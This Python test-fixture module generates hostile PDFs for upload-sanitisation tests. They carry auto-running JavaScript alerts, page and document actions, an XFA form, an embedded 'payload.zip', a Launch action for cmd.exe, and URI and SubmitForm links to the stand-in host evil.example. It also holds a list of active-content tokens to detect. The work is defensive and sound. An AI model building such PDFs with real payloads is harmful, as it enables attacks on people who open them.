"""Hostile files, made by the tests: bombs, damaged files, active PDFs and polyglots.

Each upload path (grievance evidence, consultation attachments) must refuse or clean
every one of them; see the tests that import this module.
"""

import io

import pikepdf

ACTIVE_TOKENS = [
    b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/URI", b"/Launch", b"/SubmitForm",
    b"/EmbeddedFile", b"/EF", b"/XFA", b"app.alert", b"evil.example",
]  # fmt: skip


def _js(pdf: pikepdf.Pdf, code: str) -> pikepdf.Object:
    return pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=code))


def active_pdf() -> bytes:
    """A PDF that acts on its own in every way a reader allows."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    page = pdf.pages[0]
    pdf.Root.OpenAction = _js(pdf, "app.alert('open')")
    pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf, "app.alert('close')"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["x", _js(pdf, "app.alert('n')")]))
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))
    page.obj.AA = pikepdf.Dictionary(O=_js(pdf, "app.alert('page')"))

    def link(action: pikepdf.Dictionary) -> pikepdf.Dictionary:
        return pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 10, 10]), A=action,
        )  # fmt: skip

    page.obj.Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://evil.example/")),
                link(pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")),
                link(pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.GoTo,
                        D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit]),
                        Next=_js(pdf, "app.alert('next')"),
                    )
                ),
                link(
                    pikepdf.Dictionary(
                        S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
                    )
                ),
            ]
        )
    )
    pdf.attachments["payload.zip"] = pikepdf.AttachedFileSpec(pdf, b"PK\x03\x04evil")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def blank_pdf(pages: int = 1) -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()
